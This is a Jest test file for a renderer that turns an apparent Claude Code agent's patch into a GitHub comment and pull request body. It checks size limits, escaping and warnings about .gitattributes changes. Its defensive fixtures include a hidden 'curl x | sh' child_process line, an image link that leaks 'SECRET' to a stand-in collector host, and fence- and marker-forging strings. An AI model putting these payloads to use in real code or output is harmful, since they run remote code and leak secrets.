import { describe, expect, it } from '@jest/globals'
import {
  COMMENT_LIMIT,
  attributesCallout,
  fenceFor,
  isStickyComment,
  neutralizeMarkdown,
  patchFilePaths,
  renderComment,
  renderPatchSummary,
  renderPullRequestBody,
  splitPatch,
  stickyMarker,
  truncateUtf16,
  type CommentFile,
  type CommentInput
} from '../../src/report/comment.js'
import { PatchDigester, digestPatchText } from '../../src/git/patch-digest.js'
import { formatLeftOut } from '../../src/git/patch-preamble.js'

const MARKER = stickyMarker('CI', 'claude')

function section(path: string, lines: string[]): string {
  return [
    `diff --git a/${path} b/${path}`,
    'index 1111111111111111111111111111111111111111..2222222222222222222222222222222222222222 100644',
    `--- a/${path}`,
    `+++ b/${path}`,
    `@@ -1,${lines.length} +1,${lines.length} @@`,
    ...lines,
    ''
  ].join('\n')
}

function input(
  files: CommentFile[],
  patch: string,
  extra: Partial<CommentInput> = {}
): CommentInput {
  return {
    marker: MARKER,
    conclusion: 'success',
    files,
    insertions: files.reduce((s, f) => s + f.insertions, 0),
    deletions: files.reduce((s, f) => s + f.deletions, 0),
    patch,
    finalMessage: 'Done.',
    numTurns: 3,
    durationMs: 65_000,
    costUsd: 0.0123,
    runUrl: 'https://github.example/o/r/actions/runs/7',
    runId: '7',
    repository: 'o/r',
    artifactName: 'claude-patch',
    patchFileName: 'claude.patch',
    ...extra
  }
}

function file(path: string, insertions: number, deletions = 0): CommentFile {
  return { path, status: 'modified', insertions, deletions, binary: false }
}

/** Lines outside and inside fenced code blocks, by CommonMark's fence rules. */
function fences(markdown: string): { outside: string[]; blocks: string[][] } {
  const outside: string[] = []
  const blocks: string[][] = []
  let open: { char: string; length: number; lines: string[] } | undefined
  for (const line of markdown.split('\n')) {
    if (open) {
      const close = /^ {0,3}(`+|~+)\s*$/.exec(line)
      if (close && close[1]?.[0] === open.char && (close[1]?.length ?? 0) >= open.length) {
        blocks.push(open.lines)
        open = undefined
      } else {
        open.lines.push(line)
      }
      continue
    }
    const start = /^ {0,3}(`{3,}|~{3,})(.*)$/.exec(line)
    if (start && !(start[1]?.startsWith('`') && start[2]?.includes('`'))) {
      open = { char: start[1]?.[0] ?? '`', length: start[1]?.length ?? 3, lines: [] }
      continue
    }
    outside.push(line)
  }
  expect(open).toBeUndefined() // every fence is closed
  return { outside, blocks }
}

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/

describe('renderComment', () => {
  it('shows conclusion, files, stats, the final message, each diff and how to apply it', () => {
    const patch = section('src/a.ts', ['-old', '+new']) + section('README.md', [' keep', '+more'])
    const body = renderComment(input([file('src/a.ts', 1, 1), file('README.md', 1)], patch))
    expect(body.startsWith(`${MARKER}\n`)).toBe(true)
    expect(body).toContain('✅ Claude Code finished')
    expect(body).toContain('**2 files changed** (+2 −1)')
    expect(body).toContain('3 turns')
    expect(body).toContain('1m 05s')
    expect(body).toContain('$0.0123')
    expect(body).toContain('> Done.')
    expect(body).toContain('gh run download 7 --repo o/r --name claude-patch')
    expect(body).toContain('git apply --binary claude.patch')
    const { blocks } = fences(body)
    const diffs = blocks.filter(b => b[0]?.startsWith('diff --git'))
    expect(diffs).toHaveLength(2)
    expect(diffs[0]).toContain('+new')
    expect(body).not.toContain('not shown here')
  })

  it('points at the job summary when the patch fits there', () => {
    const files = Array.from({ length: 60 }, (_, i) => file(`f${i}.txt`, 200))
    const patch = files
      .map(f =>
        section(
          f.path,
          Array.from({ length: 200 }, () => '+0123456789'.repeat(4))
        )
      )
      .join('')
    const body = renderComment(input(files, patch))
    expect(body).toContain('not shown here')
    expect(body).toContain(
      'The whole patch is in the job summary of [the workflow run](https://github.example/o/r/actions/runs/7) and in its <code>claude&#45;patch</code> artifact.'
    )
    const summary = renderPatchSummary(patch, 'claude-patch')
    expect(fences(summary).blocks[0]?.join('\n')).toBe(patch.replace(/\n$/, ''))
    expect(renderPatchSummary('x'.repeat(1_000_000))).toContain('too large to show whole here')
  })

  it('says so when there are no changes', () => {
    const body = renderComment(input([], ''))
    expect(body).toContain('no changes')
    expect(body).toContain('unchanged')
    expect(body).not.toContain('git apply')
  })

  it('keeps a 2,000-file patch far over the limit under 65,536 UTF-16 units and says what was left out', () => {
    const files: CommentFile[] = []
    let patch = ''
    for (let i = 0; i < 2000; i++) {
      const path = `pkg/module-${String(i).padStart(4, '0')}/file.txt`
      const lines = Array.from(
        { length: 40 },
        (_, n) => `+line ${n} of file ${i} with some padding text`
      )
      patch += section(path, lines)
      files.push(file(path, 40))
    }
    expect(patch.length).toBeGreaterThan(20 * COMMENT_LIMIT)
    const body = renderComment(input(files, patch))
    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT)
    expect(body.length).toBeGreaterThan(COMMENT_LIMIT * 0.8) // it uses the room it has
    const shown = fences(body).blocks.filter(b => b[0]?.startsWith('diff --git'))
    expect(shown.length).toBeGreaterThan(10)
    // Whole files only: every shown diff is complete.
    for (const block of shown) expect(block.filter(l => l.startsWith('+line'))).toHaveLength(40)
    const notShown = 2000 - shown.length
    expect(body).toContain(`**${notShown.toLocaleString('en-US')} files not shown here**`)
    expect(body).toContain(
      'The whole patch is in the <code>claude&#45;patch</code> artifact of [the workflow run](https://github.example/o/r/actions/runs/7) (it is too large for the job summary).'
    )
    expect(body).toContain('more file')
    expect(body).toContain('more files | | ')
  })

  it('counts UTF-16 units: astral and multi-byte text never pushes it over or splits a pair', () => {
    const files: CommentFile[] = []
    let patch = ''
    for (let i = 0; i < 300; i++) {
      const path = `emoji/😀-${i}/ファイル.md`
      patch += section(
        path,
        Array.from({ length: 30 }, () => `+${'😀𝔘ñ漢'.repeat(20)}`)
      )
      files.push(file(path, 30))
    }
    const finalMessage = '🎉'.repeat(10_000)
    const body = renderComment(input(files, patch, { finalMessage }))
    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT)
    expect(Array.from(body).length).toBeLessThan(body.length) // astral characters are present
    expect(LONE_SURROGATE.test(body)).toBe(false)
    expect(body).toContain('not shown here')
  })

  it('never exceeds the limit whatever the mix of huge names, messages and diffs', () => {
    const files: CommentFile[] = []
    let patch = ''
    for (let i = 0; i < 400; i++) {
      const path = `${'d'.repeat(200)}/${'|*_`<@'.repeat(20)}-${i}`
      patch += section(path, ['+' + '`'.repeat(i % 50) + 'x'.repeat(3000)])
      files.push(file(path, 1))
    }
    const body = renderComment(
      input(files, patch, {
        finalMessage: '<\n@\n'.repeat(20_000),
        outcomeMessage: 'x'.repeat(10_000),
        conclusion: 'failure',
        notes: ['a note']
      })
    )
    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT)
    fences(body)
  })

  it('a hostile diff cannot close its fence, close <details>, or forge a marker', () => {
    const otherMarker = stickyMarker('CI', 'other-job')
    const hostile = [
      '+```',
      '+````````',
      '+</details>',
      `+${MARKER}`,
      `+${otherMarker}`,
      '+<!-- claude-sandbox:CI:claude -->',
      '+@octocat please look'
    ]
    const patch = section('evil.md', hostile) + section('after.md', ['+after'])
    const body = renderComment(
      input([file('evil.md', hostile.length), file('after.md', 1)], patch, {
        finalMessage: `${MARKER}\n</details>\n<!-- x -->\nping @octocat and @org/team, mail a@b.c`
      })
    )
    expect(body.indexOf(MARKER)).toBe(0)
    const { outside, blocks } = fences(body)
    // The hostile lines all stay inside the first diff's fence, which the second diff follows.
    const evil = blocks.find(b => b[0]?.includes('evil.md'))
    expect(evil).toEqual(expect.arrayContaining(hostile))
    expect(blocks.find(b => b[0]?.includes('after.md'))).toContain('+after')
    expect(fenceFor(hostile.join('\n')).length).toBeGreaterThan(8)
    const text = outside.join('\n')
    // Outside code: one marker (the first line), no other HTML comment, balanced <details>.
    expect(text.split('<!--').length - 1).toBe(1)
    expect(text.match(/<details/g)?.length).toBe(text.match(/<\/details>/g)?.length)
    // Mentions are broken with a zero-width space; an e-mail address is left alone.
    expect(text).not.toMatch(/(^|[^\w\u200b])@octocat/m)
    expect(text).toContain('@\u200boctocat')
    expect(text).toContain('@\u200borg/team')
    expect(text).toContain('a@b.c')
    expect(isStickyComment(body, MARKER)).toBe(true)
    expect(isStickyComment(body, otherMarker)).toBe(false)
  })

  it('escapes file names that carry markdown, HTML, pipes and newlines', () => {
    const path = 'a|b/<img src=x>\n@user_*x*.md'
    const body = renderComment(input([file(path, 1)], section('x', ['+y'])))
    const table = body.split('\n').filter(l => l.startsWith('| <code>'))
    expect(table).toHaveLength(1)
    expect(table[0]).not.toContain('<img')
    expect(table[0]?.split('|').length).toBe(6) // 4 cells, no extra pipe from the name
    expect(table[0]).toContain('&#92;n') // the newline is shown as \n, not acted on
  })

  it('names binary files without dumping their base85', () => {
    const patch = [
      'diff --git a/logo.png b/logo.png',
      'new file mode 100644',
      'index 0000000000000000000000000000000000000000..3333333333333333333333333333333333333333',
      'GIT binary patch',
      'literal 4',
      'LcmZQzWMT#Y01f~L',
      '',
      'literal 0',
      'HcmV?d00001',
      '',
      ''
    ].join('\n')
    const body = renderComment(
      input(
        [{ path: 'logo.png', status: 'added', insertions: 0, deletions: 0, binary: true, size: 4 }],
        patch
      )
    )
    expect(body).toContain('Binary file added, 4 bytes')
    expect(body).not.toContain('LcmZQzWMT')
  })
})

describe('patch helpers', () => {
  it('splits per file and reads quoted, renamed and deleted paths', () => {
    const patch = [
      'diff --git "a/caf\\303\\251.txt" "b/caf\\303\\251.txt"',
      'index 1..2 100644',
      '--- "a/caf\\303\\251.txt"',
      '+++ "b/caf\\303\\251.txt"',
      '@@ -1 +1 @@',
      '-a',
      '+++ not a header',
      'diff --git a/old name b/new name',
      'similarity index 100%',
      'rename from old name',
      'rename to new name',
      'diff --git a/gone b/gone',
      'deleted file mode 100644',
      'index 1..0',
      '--- a/gone',
      '+++ /dev/null',
      '@@ -1 +0,0 @@',
      '-x',
      'diff --git a/.git/config b/.git/config',
      'new file mode 100644',
      '--- /dev/null',
      '+++ b/.git/config',
      '@@ -0,0 +1 @@',
      '+[core]',
      ''
    ].join('\n')
    expect(splitPatch(patch).map(s => s.path)).toEqual([
      'café.txt',
      'new name',
      'gone',
      '.git/config'
    ])
    expect(patchFilePaths(patch).sort()).toEqual([
      '.git/config',
      'café.txt',
      'gone',
      'new name',
      'old name'
    ])
  })

  it('truncates without splitting a surrogate pair', () => {
    expect(truncateUtf16('a😀', 2)).toBe('a')
    expect(truncateUtf16('a😀', 3)).toBe('a😀')
  })

  it('makes one marker per workflow and job that cannot end the HTML comment early', () => {
    expect(stickyMarker('a', 'b')).not.toBe(stickyMarker('a', 'c'))
    expect(stickyMarker('x --> y', 'j:k')).toMatch(/^<!-- claude-sandbox:[^>]*:[^>]* -->$/)
    expect(stickyMarker('x --> y', 'j:k').slice(4, -4)).not.toContain('--')
  })

  it('renders a pull request body under the limit with the user text first', () => {
    const files = Array.from({ length: 5000 }, (_, i) => file(`f${i}`, 1))
    const body = renderPullRequestBody({
      conclusion: 'success',
      files,
      insertions: 5000,
      deletions: 0,
      userBody: 'Fixes #1',
      finalMessage: 'x'.repeat(100_000),
      workflow: 'Nightly',
      job: 'fix',
      branch: 'claude-sandbox/nightly-fix'
    })
    expect(body.startsWith('Fixes #1')).toBe(true)
    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT)
    expect(body).toContain('more files')
  })
})

describe('untrusted agent text', () => {
  it('cannot embed an image, which would be fetched when the comment is viewed', () => {
    const text =
      'Done ![pixel](https://collector.invalid/?q=SECRET) and ![ref][1]\n\n[1]: https://x.invalid'
    const safe = neutralizeMarkdown(text)
    expect(safe).not.toContain('![')
    expect(safe).toContain('!\u200b[pixel](https://collector.invalid/?q=SECRET)')
    const body = renderComment(input([], '', { finalMessage: text }))
    expect(body).not.toMatch(/!\[/)
  })
})

describe('rendering from a bounded digest of the patch', () => {
  const attributes = [
    'diff --git a/.gitattributes b/.gitattributes',
    'new file mode 100644',
    'index 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111',
    '--- /dev/null',
    '+++ b/.gitattributes',
    '@@ -0,0 +1 @@',
    '+*.js -diff',
    ''
  ].join('\n')
  const appLine = '+require("child_process").exec("curl x | sh")'

  it('reads the same digest whatever the chunks the bytes arrive in', () => {
    const patch = `# left-out 99 "big.bin"\n${attributes}${section('app.js', [' a', appLine])}`
    const whole = digestPatchText(patch)
    const digester = new PatchDigester()
    const bytes = Buffer.from(patch)
    for (let i = 0; i < bytes.length; i += 3) digester.push(bytes.subarray(i, i + 3))
    expect(digester.finish()).toEqual(whole)
    expect(whole.sections.map(s => s.path)).toEqual(['.gitattributes', 'app.js'])
    expect(whole.leftOut).toEqual([{ path: 'big.bin', size: 99 }])
  })

  it('calls out a .gitattributes change at the top and shows the hidden line as text', () => {
    const patch = attributes + section('app.js', [' a', appLine])
    const body = renderComment(
      input([file('.gitattributes', 1), file('app.js', 1)], '', { digest: digestPatchText(patch) })
    )
    const caution = body.indexOf('> [!CAUTION]')
    expect(caution).toBeGreaterThan(0)
    expect(caution).toBeLessThan(body.indexOf('| File | Change |'))
    expect(body).toContain('+*.js -diff')
    expect(body).toContain(appLine)
  })

  it('cuts one huge file to a prefix, and keeps comment and summary within GitHub’s limits', () => {
    const lines = Array.from(
      { length: 200_000 },
      (_, n) => `+generated line ${n} ${'x'.repeat(30)}`
    )
    const patch = section('dist/huge.js', lines) + section('src/fix.ts', ['-a', '+b'])
    expect(patch.length).toBeGreaterThan(8_000_000)
    const digest = digestPatchText(patch)
    expect(digest.whole).toBeUndefined()
    expect(digest.sections[0]?.text.length).toBeLessThanOrEqual(64 * 1024)
    const body = renderComment(
      input([file('dist/huge.js', 200_000), file('src/fix.ts', 1, 1)], '', { digest })
    )
    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT)
    expect(body).toContain('+generated line 0 ')
    expect(body).not.toContain('+generated line 199999 ')
    expect(body).toContain('_(cut: the file')
    expect(body).toContain('+b')
    const summary = renderPatchSummary(digest)
    expect(Buffer.byteLength(summary)).toBeLessThan(1024 * 1024)
    expect(summary).toContain('too large to show whole here')
    expect(summary).toContain('+b')
  })

  it('lists the files left out for their size', () => {
    const patch = `${formatLeftOut([{ path: 'build/out.bin', size: 1_258_291_200 }], 52_428_800)}${section('fix.py', ['+x'])}`
    const body = renderComment(input([file('fix.py', 1)], patch))
    expect(body).toContain('**1 file left out of the patch**')
    expect(body).toContain('<code>build/out.bin</code> (1.2 GiB (1,258,291,200 bytes))')
  })
})

describe('the pull request body', () => {
  it('calls out a .gitattributes change, which GitHub’s own diff view would honour', () => {
    const patch = [
      'diff --git a/.gitattributes b/.gitattributes',
      'index 1111111111111111111111111111111111111111..2222222222222222222222222222222222222222 100644',
      '--- a/.gitattributes',
      '+++ b/.gitattributes',
      '@@ -1 +1,2 @@',
      ' *.png binary',
      '+src/** linguist-generated',
      ''
    ].join('\n')
    const body = renderPullRequestBody({
      conclusion: 'success',
      files: [file('.gitattributes', 1)],
      insertions: 1,
      deletions: 0,
      digest: digestPatchText(patch),
      workflow: 'CI',
      job: 'claude',
      branch: 'claude/ci'
    })
    expect(body).toContain('**This change edits <code>.gitattributes</code>.**')
    expect(body).toContain('+src/** linguist-generated')
    expect(body).not.toContain(' *.png binary\n')
  })
})

describe('attributesCallout', () => {
  it('names a .gitattributes the file list holds even when its diff header was not read', () => {
    const deep = `${'d'.repeat(100)}/`.repeat(5) + '.gitattributes'
    const callout = attributesCallout([], ['src/a.ts', deep, 'docs/.GitAttributes'])
    expect(callout).toContain('> [!CAUTION]')
    expect(callout).toContain(`${'d'.repeat(100)}/`)
    expect(callout).toContain('docs/.GitAttributes')
    expect(callout).toContain(': see the patch')
    expect(attributesCallout([], ['src/a.ts', 'gitattributes.md'])).toBe('')
  })
})

describe('links to the artifact', () => {
  it('links the artifact page in the apply instructions and where the patch is', () => {
    const files = [file('a.txt', 1)]
    const patch = 'diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n a\n+b\n'
    const url = 'https://github.com/o/r/actions/runs/7/artifacts/9'
    const body = renderComment(input(files, patch, { artifactUrl: url }))
    expect(body).toContain(
      `Download <code>claude.patch</code> from [the <code>claude&#45;patch</code> artifact](${url})`
    )
    expect(renderPatchSummary('x'.repeat(1_000_000), 'claude-patch', url)).toContain(
      `it is in [the <code>claude&#45;patch</code> artifact](${url}).`
    )
  })
})
